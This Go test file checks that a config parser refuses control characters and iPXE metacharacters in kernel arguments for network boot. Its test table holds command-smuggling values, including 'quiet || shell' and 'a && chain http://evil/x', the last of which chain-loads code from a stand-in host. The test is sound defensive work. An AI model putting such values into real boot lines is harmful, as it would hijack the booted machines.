package config

import (
	"fmt"
	"strconv"
	"strings"
	"testing"
)

// TestKernelArgsRefused (issue 20, Medium 5 and Low 10): a kernel argument
// is written into the iPXE boot line, and iPXE has no quoting. Control
// characters and iPXE's metacharacters are refused with file, line and key;
// everything else (commas, quotes, '=' and spaces) is kept as written.
func TestKernelArgsRefused(t *testing.T) {
	for _, c := range []struct {
		arg, want string
	}{
		{"console=ttyS0\nshell", "control character"},
		{"quiet\r", "control character"},
		{"a\tb", "control character"},
		{"x\x7f", "control character"},
		{"x\u0085", "control character"},
		{"quiet || shell", `"||"`},
		{"quiet||shell", `"||"`},
		{"a && chain http://evil/x", `"&&"`},
		{"x ; shell", `";"`},
		{"x;shell", `";"`},
		{"#", `"#"`},
		{"quiet #comment", `"#"`},
		{"ip=${net0/ip}", `"${"`},
	} {
		for _, where := range []string{"profile", "node"} {
			arg := tomlQuote(c.arg)
			nodes := "[profiles.p]\nimage = \"img\"\n"
			if where == "profile" {
				nodes += "kernel_args = [\"quiet\", " + arg + "]\n"
			}
			nodes += "\n[nodes.n1]\nprofiles = [\"p\"]\n"
			if where == "node" {
				nodes += "kernel_args = [" + arg + "]\n"
			}
			nodes += "[nodes.n1.network.eth0]\nhwaddr = \"52:54:00:00:00:01\"\n"
			_, err := ParseNodes("nodes.toml", []byte(nodes))
			if err == nil {
				t.Errorf("%s kernel_args %q accepted", where, c.arg)
				continue
			}
			key, line := "profiles.p.kernel_args", 3
			if where == "node" {
				key, line = "nodes.n1.kernel_args", 6
			}
			prefix := "nodes.toml:" + strconv.Itoa(line) + ": " + key + ": kernel argument "
			if msg := err.Error(); !strings.HasPrefix(msg, prefix) || !strings.Contains(msg, c.want) {
				t.Errorf("%s kernel_args %q: error %q, want %q… naming %s", where, c.arg, msg, prefix, c.want)
			}
		}
	}

	// Accepted, whole.
	good := []string{"console=ttyS0,115200n8", `rd.break="pre mount"`, "a=b=c", "quiet splash", "x|y", "a&b", "$HOME", "é"}
	var list []string
	for _, g := range good {
		list = append(list, tomlQuote(g))
		if err := CheckKernelArg(g); err != nil {
			t.Errorf("CheckKernelArg(%q): %v", g, err)
		}
	}
	nodes := "[nodes.n1]\nimage = \"img\"\nkernel_args = [" + strings.Join(list, ", ") + "]\n[nodes.n1.network.eth0]\nhwaddr = \"52:54:00:00:00:01\"\n"
	ns, err := ParseNodes("nodes.toml", []byte(nodes))
	if err != nil {
		t.Fatal(err)
	}
	if got := ns.ByName["n1"].KernelArgs; strings.Join(got, "\x00") != strings.Join(good, "\x00") {
		t.Errorf("kernel args %q, want %q", got, good)
	}
}

// tomlQuote writes s as a TOML basic string (\uXXXX for control characters).
func tomlQuote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < ' ' || r == 0x7f || (r >= 0x80 && r <= 0x9f):
			fmt.Fprintf(&b, "\\u%04X", r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}
